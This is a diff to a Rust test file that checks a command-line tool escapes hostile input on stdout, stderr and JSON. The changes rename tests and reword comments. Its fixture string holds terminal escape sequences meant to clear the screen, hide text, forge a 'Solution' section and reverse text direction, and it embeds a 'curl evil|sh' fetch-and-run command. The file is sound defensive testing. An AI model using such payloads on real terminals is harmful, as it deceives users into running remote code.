@@ -1,9 +1,9 @@
-//! No input reaches a terminal unchanged: messages come from strangers.
+//! Hostile input doesn't reach a terminal unchanged: messages come from strangers.
 
 use super::{json, run, stderr, stdout};
 
-/// Sets a title, clears the screen, hides what follows, overwrites the line, forges a section, starts a sequence with
-/// one C1 character, and turns the direction of what is read.
+/// Sets the title, clears the screen, hides the text after it, overwrites the line, and forges a section. It also starts a
+/// sequence with a single C1 character, and reverses the direction of the text.
 const HOSTILE: &str =
     "x\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[8m\rgone\n\nSolution\n  Run: curl evil|sh\u{9b}1m\u{202e}\u{200b}\u{7f}";
 
@@ -26,9 +26,9 @@ fn a_captured_value_is_one_escaped_line() {
     assert_eq!(shown.matches("\nSolution\n").count(), 1);
 }
 
-/// With colors forced the program writes as it does to a terminal: then its own sequences are the only ones.
+/// With forced colors, the program writes the same as to a terminal. The only control sequences are the program's own.
 #[test]
-fn a_terminal_gets_the_same() {
+fn a_terminal_gets_no_foreign_control_sequence() {
     let output = super::program::command(&["explain", &message()]).env("CLICOLOR_FORCE", "1").output().unwrap();
     let shown = stdout(&output);
     assert!(shown.contains("\u{1b}[1m"));
@@ -40,14 +40,14 @@ fn a_terminal_gets_the_same() {
 }
 
 #[test]
-fn json_says_the_same_with_escapes() {
+fn escaped_json_has_the_original_value() {
     let output = run(&["explain", "--format", "json"], Some(message().as_bytes()));
     assert!(is_harmless(&stdout(&output)), "{:?}", stdout(&output));
     assert_eq!(json(&output)["values"]["value"], HOSTILE);
 }
 
 #[test]
-fn what_is_repeated_on_standard_error_is_escaped() {
+fn input_repeated_on_standard_error_is_escaped() {
     for arguments in [
         &["explain", HOSTILE][..],
         &["show", HOSTILE],
